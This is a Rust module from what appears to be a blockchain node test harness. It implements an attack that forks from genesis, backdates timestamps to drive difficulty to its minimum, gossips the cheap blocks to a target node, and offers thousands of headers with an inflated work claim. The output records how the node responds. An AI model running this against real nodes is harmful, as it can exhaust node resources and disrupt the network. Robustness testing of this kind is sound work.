//! Valid blocks of next to no work, on a branch that leaves the chain at its beginning.
//!
//! After a long silence the difficulty eases (protocol §3.3), so behind one block of ordinary work a branch from genesis
//! has as many blocks of two evaluations each as one likes. Some are gossiped whole, as news; all headers are given to a
//! node that asks, since their owner claims more work than there is.

use std::{
    sync::{
        Arc,
        atomic::{AtomicUsize, Ordering},
    },
    time::{Duration, Instant},
};

use anyhow::Result;
use ledger::rules::header::HeaderContext;
use libp2p::Multiaddr;
use node::p2p::compact::CompactBlock;
use serde_json::{Value, json};
use tokio::{task::block_in_place, time::sleep};

use crate::{
    answers::{HUGE_WORK, Offer},
    forge::{Forge, empty_block},
    past,
    peer::Peer,
};

/// Blocks at the branch's beginning that come so late that the difficulty is at its lowest after them.
const LATE_BLOCKS: usize = 24;
/// How late each of them is, in clipped gaps.
const LATE: u64 = 4;
/// Time without a further question after which a node is taken to have lost interest.
const INTEREST: Duration = Duration::from_secs(4);
/// Time for whoever measures to begin, and for the node to judge what was gossiped.
const SETTLE: Duration = Duration::from_secs(1);

/// Which node, and how much.
#[derive(clap::Args)]
pub struct Options {
    /// The node.
    #[arg(long)]
    node: Multiaddr,
    /// Headers that it gets if it asks.
    #[arg(long, default_value_t = 20_000)]
    headers: usize,
    /// Of these, blocks that it is told of whole.
    #[arg(long, default_value_t = 1_500)]
    blocks: usize,
    /// The longest time to wait for its questions.
    #[arg(long, default_value_t = 20)]
    seconds: u64,
}

/// Runs the attack.
pub async fn run(forge: Forge, options: Options) -> Result<Value> {
    past::give(forge, &options.node).await?;
    let began = Instant::now();
    let branch: Arc<Vec<HeaderContext>> = Arc::new(block_in_place(|| branch(forge, options.headers)));
    let made_in = began.elapsed();
    println!("ready");
    sleep(SETTLE).await;
    let given = Arc::new(AtomicUsize::new(0));
    let offer = Offer { branch: branch.clone(), work: HUGE_WORK, given: given.clone() };
    let mut peer = Peer::connect(forge.params, &options.node, offer.answers(forge.chain_id)).await?;
    peer.until_heard().await?;
    let told = options.blocks.min(branch.len());
    let mut gossiped = 0;
    for header in &branch[..told] {
        let announcement = CompactBlock::whole(&empty_block(header));
        gossiped += usize::from(peer.announce(&announcement).await.unwrap_or(false));
    }
    sleep(SETTLE).await;
    until_bored(&given, Duration::from_secs(options.seconds)).await;
    Ok(json!({
        "headers_made": branch.len(),
        "made_in_ms": made_in.as_millis() as u64,
        "work_of_all": branch.last().map_or(0, |tip| tip.total_work()) as u64,
        "blocks_told": gossiped,
        "headers_given": given.load(Ordering::Relaxed),
        "still_connected": peer.is_connected(),
    }))
}

/// A branch from genesis, lowest first.
fn branch(forge: Forge, length: usize) -> Vec<HeaderContext> {
    let mut parent = HeaderContext::genesis(forge.params);
    let late = LATE * u64::from(forge.params.gap_clip);
    (0..length)
        .map(|index| {
            let gap = if index < LATE_BLOCKS { late } else { u64::from(forge.params.block_interval) };
            parent = forge.plain_header(&parent, parent.header().core.time + gap, 0);
            parent.clone()
        })
        .collect()
}

/// Returns when the node asks for no more headers, or when the time is over.
async fn until_bored(given: &AtomicUsize, most: Duration) {
    let (began, mut last, mut since) = (Instant::now(), 0, Instant::now());
    while began.elapsed() < most && since.elapsed() < INTEREST {
        sleep(Duration::from_millis(100)).await;
        let now = given.load(Ordering::Relaxed);
        if now != last {
            (last, since) = (now, Instant::now());
        }
    }
}
